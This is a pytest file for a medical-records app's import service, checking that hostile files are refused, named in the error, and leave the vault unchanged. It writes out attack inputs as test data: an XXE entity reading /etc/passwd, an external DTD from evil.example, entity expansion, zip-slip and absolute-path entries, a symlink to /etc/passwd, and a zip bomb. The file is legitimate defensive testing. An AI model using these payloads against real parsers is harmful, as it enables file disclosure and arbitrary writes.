"""Hostile files through the whole import path: refused, named, and the vault left exactly as it was.

(The parsers' own tests go through every limit in detail; this checks the service's contract.)
"""

from __future__ import annotations

import io
import json
import stat
import zipfile

import pytest

from medrecords_desktop.services.importing import ImportOptions, ImportService
from medrecords_desktop.services.records import RecordService

CDA = '<ClinicalDocument xmlns="urn:hl7-org:v3">{}</ClinicalDocument>'


def _zip(members: dict[str, bytes], symlink: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, "/etc/passwd")
    return buf.getvalue()


CASES = {
    "xxe.xml": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + CDA.format("&x;")
    ).encode(),
    "external-dtd.xml": (
        '<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/x.dtd">' + CDA.format("")
    ).encode(),
    "laughs.xml": (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + CDA.format("&c;")
    ).encode(),
    "deep.json": b'{"resourceType":"Bundle","entry":' + b"[" * 5000 + b"]" * 5000 + b"}",
    "malformed.json": b'{"resourceType": "Observation", "status": "final",, }',
    "bad-utf8.json": b'{"resourceType": "Patient", "name": [{"text": "\xff\xfe"}]}',
    "truncated.json": json.dumps({"resourceType": "Bundle", "type": "collection", "entry": []})[:30].encode(),
    "slip.zip": _zip({"IHE_XDM/SUBSET01/../../evil.xml": CDA.format("").encode()}),
    "absolute.zip": _zip({"/etc/cron.d/evil": b"x", "IHE_XDM/SUBSET01/DOC0001.XML": CDA.format("").encode()}),
    "link.zip": _zip({"IHE_XDM/SUBSET01/DOC0001.XML": CDA.format("").encode()}, symlink="IHE_XDM/SUBSET01/l.xml"),
    "bomb.zip": _zip({"IHE_XDM/SUBSET01/DOC0001.XML": b"<" + b"a" * 50_000_000}),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_file_is_refused_and_named(vault, tmp_path, name) -> None:
    before = RecordService(vault).stats()
    f = tmp_path / name
    f.write_bytes(CASES[name])
    report = ImportService(vault).import_paths([f], ImportOptions(person="Alice Example"))
    (outcome,) = report.files
    assert outcome.status == "failed", outcome
    assert name in outcome.error and "Traceback" not in outcome.error
    assert RecordService(vault).stats() == before
    assert not list(tmp_path.glob("**/evil*"))


def test_folder_import_continues_past_bad_files(vault, tmp_path) -> None:
    from conftest import FIXTURES

    (tmp_path / "bad.json").write_bytes(CASES["malformed.json"])
    (tmp_path / "good.xml").write_bytes((FIXTURES / "ccda" / "golden.xml").read_bytes())
    # tmp_path also holds the vault itself: a folder import must step over it
    report = ImportService(vault).import_paths([tmp_path], ImportOptions(person="Alice Example", force=True))
    assert [f.status for f in sorted(report.files, key=lambda f: f.file)] == ["failed", "ok"]
    assert sum(report.added.values()) > 0
